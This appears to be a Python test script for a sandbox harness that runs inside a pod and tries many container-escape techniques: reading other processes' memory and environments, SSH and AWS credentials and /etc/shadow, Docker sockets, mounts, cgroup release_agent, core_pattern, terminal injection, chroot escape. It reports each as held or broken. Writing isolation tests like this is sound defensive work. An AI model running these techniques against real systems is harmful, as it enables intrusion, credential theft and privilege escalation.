"""Runs inside a pod: tries ways out of it, and prints for each way what it got. Standard library only.

A way that is held prints nothing or an error's name; evidence is the canary's text, or `done` for an act that succeeded.
The paths and process numbers to attack are given as JSON in the variable TARGETS.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import glob
import json
import os
import signal
import socket
import stat
from collections.abc import Callable

TARGETS = json.loads(os.environ.get("TARGETS", "{}"))
LIBC = ctypes.CDLL(None, use_errno=True)
DONE = "done"
MAX_BYTES = 1 << 20


def call(number: int, *arguments: object) -> str:
    """A system call of x86_64; `done` if it succeeded."""
    answer = LIBC.syscall(number, *arguments)
    if answer >= 0:
        return DONE
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def read(*patterns: str) -> str:
    found = b""
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            with contextlib.suppress(OSError), open(path, "rb") as file:
                found += file.read(MAX_BYTES)
    return found.decode(errors="replace")


def write(*folders: str) -> str:
    """Write a file into each; the harness looks for it on the machine."""
    for folder in folders:
        with contextlib.suppress(OSError), open(f"{folder}/{TARGETS['mark']}", "w") as file:
            file.write("written by a pod")
    return ""


def open_raw(*paths: str) -> str:
    for path in paths:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_RDONLY))
            return f"{DONE} {path}"
    return ""


def set_value(*paths: str) -> str:
    for path in paths:
        with contextlib.suppress(OSError):
            current = open(path).read()  # noqa: SIM115
            with open(path, "w") as file:
                file.write(current or "1")
            return f"{DONE} {path}"
    return ""


def trace() -> str:
    for process in (*TARGETS["processes"], 1):
        if LIBC.ptrace(16, process, 0, 0) == 0:
            return f"{DONE} {process}"
    return ""


def memory() -> str:
    buffer = ctypes.create_string_buffer(64)
    for process in (*TARGETS["processes"], 1):
        with contextlib.suppress(OSError, ValueError):
            first = open(f"/proc/{process}/maps").readline()  # noqa: SIM115
            start = int(first.split("-")[0], 16)
            with open(f"/proc/{process}/mem", "rb", buffering=0) as file:
                file.seek(start)
                return DONE if file.read(16) else ""
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 64)
    remote = (ctypes.c_uint64 * 2)(0x400000, 64)
    for process in TARGETS["processes"]:
        if LIBC.process_vm_readv(process, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
            return DONE
    return ""


def kill() -> str:
    """The harness looks whether they still run."""
    for process in TARGETS["processes"]:
        with contextlib.suppress(OSError):
            os.kill(process, signal.SIGKILL)
    return ""


def connect(*addresses: str) -> str:
    for address in addresses:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as peer:
            peer.connect(address)
            return f"{DONE} {address}"
    return ""


def loopback() -> str:
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=2):
        return DONE
    return ""


def descriptors() -> str:
    """Open files beyond the standard ones that lead somewhere."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            if int(name) > 2 and not target.startswith(("/proc/", "anon_inode")):
                found.append(target)
    return f"{DONE} {found}" if found else ""


def device() -> str:
    for kind, number in (
        (stat.S_IFBLK, os.makedev(254, 0)),
        (stat.S_IFBLK, os.makedev(8, 0)),
        (stat.S_IFCHR, os.makedev(1, 1)),
    ):
        with contextlib.suppress(OSError):
            path = f"/tmp/device-{number}"
            os.mknod(path, 0o666 | kind, number)
            os.close(os.open(path, os.O_RDONLY))
            return DONE
    return ""


def mount(source: str, target: str, kind: str, flags: int) -> str:
    if LIBC.mount(source.encode(), target.encode(), kind.encode(), flags, None) == 0:
        return DONE
    return ""


def remount() -> str:
    for target in ("/", "/etc", "/proc/sys", "/sys", "/usr"):
        if LIBC.mount(b"none", target.encode(), None, 32 | 4096, None) == 0:
            return f"{DONE} {target}"
    return ""


def uncover() -> str:
    for path in TARGETS["hidden"]:
        LIBC.umount2(path.encode(), 2)
    return read(*(f"{path}/*" for path in TARGETS["hidden"]))


def new_namespaces() -> str:
    child = os.fork()
    if child == 0:
        ok = LIBC.unshare(0x10000000 | 0x00020000) == 0
        os._exit(0 if ok else 1)
    return DONE if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0 else ""


def cloned_namespaces() -> str:
    flags = 0x10000000 | 0x00020000 | signal.SIGCHLD
    child = LIBC.syscall(56, ctypes.c_ulong(flags), 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
        return DONE
    return ""


def cgroups() -> str:
    for folder in ("/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*")):
        with contextlib.suppress(OSError):
            os.mkdir(f"{folder}/escape")
            os.rmdir(f"{folder}/escape")
            return f"{DONE} {folder}"
    agents = [path for path in glob.glob("/sys/fs/cgroup/*/release_agent") if set_value(path)]
    return f"{DONE} {agents}" if agents else mount("none", "/tmp", "cgroup", 0) or mount("none", "/tmp", "cgroup2", 0)


def type_into_terminal() -> str:
    for path in ("/dev/tty", "/proc/1/fd/0", "/dev/console"):
        with contextlib.suppress(OSError), open(path, "rb", buffering=0) as terminal:
            fcntl.ioctl(terminal, 0x5412, b"x")
            return DONE
    master, slave = os.openpty()
    try:
        fcntl.ioctl(slave, 0x5412, b"x")
        return DONE  # even into one's own: a shell of `kubectl exec -t` has the user's terminal at its other end
    except OSError:
        return ""
    finally:
        os.close(master)
        os.close(slave)


def link_files() -> str:
    for path in ("/etc/passwd", *TARGETS["files"]):
        with contextlib.suppress(OSError):
            os.link(path, "/scratch/linked")
            return f"{DONE} {path}"
    return ""


def leave_root() -> str:
    """The classic way out of chroot."""
    with contextlib.suppress(OSError):
        os.makedirs("/tmp/inner", exist_ok=True)
        outside = os.open("/", os.O_RDONLY)
        child = os.fork()
        if child == 0:
            code = 1
            with contextlib.suppress(OSError):
                os.chroot("/tmp/inner")
                os.fchdir(outside)
                for _ in range(64):
                    os.chdir("..")
                os.chroot(".")
                code = 0 if any(os.path.exists(path) for path in TARGETS["files"]) else 1
            os._exit(code)
        return DONE if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0 else ""
    return ""


def become_root() -> str:
    for number in (0, 1000):
        with contextlib.suppress(OSError):
            os.setresuid(number, number, number)
            return f"{DONE} {number}"
    with contextlib.suppress(OSError):
        os.setgroups([0])
        return DONE
    return ""


def files_of_root() -> str:
    """What root alone may open, or what is below a folder that root alone may enter."""
    return read(*TARGETS["roots_files"]) + read(*(f"/proc/self/root{path}" for path in TARGETS["roots_files"]))


def replace_projected() -> str:
    """A link in the place of a folder that the agent writes into."""
    os.rename("/config/deep", "/config/away")
    os.symlink("/etc", "/config/deep")
    return DONE


WAYS: dict[str, Callable[[], str]] = {
    "read the data directory": lambda: read(*TARGETS["files"]),
    "read the agent's folders": lambda: read(f"{TARGETS['agent']}/**"),
    "read another pod's volumes on disk": lambda: read(f"{TARGETS['victim']}/volumes/*/*"),
    "read another pod's secrets in memory": lambda: read("/dev/shm/**", f"{TARGETS['memory']}/**"),
    "read environments in /proc": lambda: read("/proc/[0-9]*/environ").replace(os.environ["TARGETS"], ""),
    "read the server's environment": lambda: read(*(f"/proc/{each}/environ" for each in TARGETS["processes"])),
    "read memory of others": memory,
    "root and working folder of others": lambda: read(*(f"/proc/{each}/{way}/*" for each in TARGETS["processes"] for way in ("cwd", "root"))),
    "open files of others": lambda: read(*(f"/proc/{each}/fd/*" for each in TARGETS["processes"])),
    "what started the pod": lambda: read("/proc/1/environ", "/proc/1/mem") + open_raw("/proc/1/mem", "/proc/1/fd/3"),
    "trace others": trace,
    "kill others": kill,
    "inherited open files": descriptors,
    "the supervisor's socket": lambda: connect(TARGETS["socket"], "/run/docker.sock", "/run/containerd/containerd.sock"),
    "abstract sockets of the machine": lambda: connect(f"\0{TARGETS['abstract']}"),
    "loopback of the machine": loopback,
    "write to the system's folders": lambda: write("/etc", "/usr/bin", "/usr/local/bin", "/opt", "/var/lib", "/"),
    "write to the server's packages": lambda: write(*TARGETS["packages"]),
    "write to another pod's folder": lambda: write(TARGETS["victim"], f"{TARGETS['victim']}/volumes/scratch"),
    "write to the user's home": lambda: write(TARGETS["home"]),
    "read the user's keys": lambda: read(*(f"{TARGETS['home']}/{name}" for name in (".ssh/id_rsa", ".aws/credentials", ".netrc"))),
    "read the system's keys": lambda: read("/etc/shadow") + "".join(f"{DONE} {path}" for path in glob.glob("/etc/ssh/*_key") if TARGETS["host_key"] and TARGETS["host_key"] in read(path)),
    "device nodes": device,
    "the machine's disks and memory": lambda: open_raw("/dev/mem", "/dev/kmem", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/kmsg") + read("/proc/kcore")[:8],
    "mount": lambda: mount("none", "/tmp", "tmpfs", 0) + mount("/", "/tmp", "", 4096),
    "mount again, writable": remount,
    "uncover what is hidden": uncover,
    "new user namespace": new_namespaces,
    "clone into namespaces": cloned_namespaces,
    "enter namespaces of others": lambda: "".join(f"{DONE} {each}" for each in TARGETS["processes"] if os.path.exists(f"/proc/{each}/ns/mnt") and LIBC.setns(os.open(f"/proc/{each}/ns/mnt", os.O_RDONLY), 0) == 0),
    "control groups": cgroups,
    "core_pattern": lambda: set_value("/proc/sys/kernel/core_pattern"),
    "settings of the kernel": lambda: set_value("/proc/sys/vm/swappiness", "/proc/sys/kernel/modprobe", "/sys/kernel/mm/ksm/run"),
    "sysrq": lambda: set_value("/proc/sysrq-trigger") if not os.access("/proc/sysrq-trigger", os.R_OK) else "",
    "type into a terminal": type_into_terminal,
    "keyrings": lambda: call(250, 0, -4, 1) if os.uname().machine == "x86_64" else "",
    "kernel modules": lambda: call(313, -1, b"", 0) if os.uname().machine == "x86_64" else "",
    "open by handle": lambda: call(304, -100, ctypes.create_string_buffer(24), 0) if os.uname().machine == "x86_64" else "",
    "bpf": lambda: call(321, 0, ctypes.create_string_buffer(128), 128) if os.uname().machine == "x86_64" else "",
    "hard links to files of others": link_files,
    "leave the root folder": leave_root,
    "a link in the place of projected files": replace_projected,
}  # fmt: skip
AS_DEFAULT_USER: dict[str, Callable[[], str]] = {
    "read files of root": files_of_root,
    "list a folder of root": lambda: "".join(f"{DONE} {path}" for path in TARGETS["roots_files"] if os.path.lexists(path)),
    "become root or another user": become_root,
    "read root's home": lambda: "".join(f"{DONE} {path}" for path in TARGETS["roots_home"] if os.path.lexists(path)),
}  # fmt: skip


def main() -> None:
    results = {}
    for name, attempt in {**WAYS, **(AS_DEFAULT_USER if TARGETS["is_default_user"] else {})}.items():
        try:
            got = attempt()
        except (OSError, ValueError) as error:
            got = type(error).__name__
        is_broken = TARGETS["canary"] in got or DONE in got
        results[name] = f"BROKEN {got[:200]}" if is_broken else "held"
    print(json.dumps(results), flush=True)


if __name__ == "__main__":
    main()
